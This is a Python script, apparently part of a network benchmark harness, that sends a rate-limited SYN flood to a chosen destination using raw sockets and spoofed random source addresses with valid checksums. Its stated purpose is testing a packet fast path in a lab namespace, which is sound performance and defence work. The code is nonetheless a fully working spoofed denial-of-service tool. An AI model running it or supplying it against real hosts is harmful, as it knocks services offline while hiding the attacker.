"""A SYN flood for bench_flood.py: SYNs from spoofed sources at a steady rate, standard library
only (it runs in a peer's namespace as root: a raw socket).

Sources are random addresses of the given /24 (never answered: nobody owns them) with random
ports; each SYN's checksums are right, so the fast path and Linux both take them as real. Runs
until `seconds` pass, then prints one JSON line: {"sent": n, "seconds": s, "rate": pps}.

    python syn_flood.py DST_IP DST_PORT SRC_PREFIX RATE SECONDS      (SRC_PREFIX like 10.99.1)
"""

from __future__ import annotations

import json
import random
import signal
import socket
import struct
import sys
import time

PREBUILT = 4096          # distinct SYNs, sent round robin
TICK_S = 0.002           # pacing granularity
IP_HEADER = struct.Struct("!BBHHHBBH4s4s")
TCP_HEADER = struct.Struct("!HHIIBBHHH")
MSS_OPTION = b"\x02\x04\x05\xb4"


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(src: str, dst: str, sport: int, dport: int, seq: int) -> bytes:
    src_b, dst_b = socket.inet_aton(src), socket.inet_aton(dst)
    tcp = TCP_HEADER.pack(sport, dport, seq, 0, 6 << 4, 0x02, 64240, 0, 0) + MSS_OPTION
    pseudo = src_b + dst_b + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = IP_HEADER.pack(0x45, 0, 20 + len(tcp), 0, 0x4000, 64, socket.IPPROTO_TCP, 0,
                        src_b, dst_b)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def main() -> int:
    dst, dport, prefix, rate, seconds = (sys.argv[1], int(sys.argv[2]), sys.argv[3],
                                         float(sys.argv[4]), float(sys.argv[5]))
    rng = random.Random(1)
    packets = [syn(f"{prefix}.{rng.randrange(100, 250)}", dst, rng.randrange(1024, 65536),
                   dport, rng.randrange(1 << 32)) for _ in range(PREBUILT)]
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))   # stopped early: still report
    print("flooding", flush=True)
    start = time.monotonic()
    sent = 0
    try:
        while (now := time.monotonic()) - start < seconds:
            due = int((now - start) * rate)
            while sent < due:
                try:
                    sock.sendto(packets[sent % PREBUILT], (dst, 0))
                except OSError:
                    pass   # a full device queue: that SYN is lost, as on a wire
                sent += 1
            time.sleep(TICK_S)
    finally:
        elapsed = time.monotonic() - start
        print(json.dumps({"sent": sent, "seconds": round(elapsed, 2),
                          "rate": round(sent / elapsed) if elapsed else 0}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
